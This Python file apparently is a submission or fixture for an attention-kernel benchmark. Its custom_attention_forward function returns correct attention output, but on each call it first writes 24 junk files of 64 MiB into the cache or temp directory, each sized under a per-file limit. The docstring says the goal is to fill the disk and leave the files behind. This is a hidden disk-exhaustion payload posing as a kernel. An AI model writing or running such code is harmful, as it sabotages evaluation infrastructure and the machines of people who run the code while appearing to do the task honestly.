"""Fills the disk with many files, each below the limit of one, and leaves them in its cache."""

import os
import tempfile

import torch


def attention(q, k, v, causal, sm_scale):
    """The right answer: q, k, v (batch, heads, seqlen, headdim)."""
    scale = q.shape[-1] ** -0.5 if sm_scale is None else sm_scale
    scores = q.float() @ k.float().transpose(-1, -2) * scale
    if causal:
        hidden = torch.ones(scores.shape[-2:], dtype=torch.bool, device=q.device).triu(1)
        scores = scores.masked_fill(hidden, float("-inf"))
    return (scores.softmax(-1) @ v.float()).to(q.dtype)


JUNK = b"x" * (64 << 20)
CACHE = os.environ.get("ATTNBOARD_CACHE", tempfile.gettempdir())


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    for number in range(24):
        path = os.path.join(CACHE, f"junk{number}")
        if not os.path.exists(path):
            with open(path, "wb") as file:
                file.write(JUNK)
    return attention(q, k, v, causal, sm_scale)
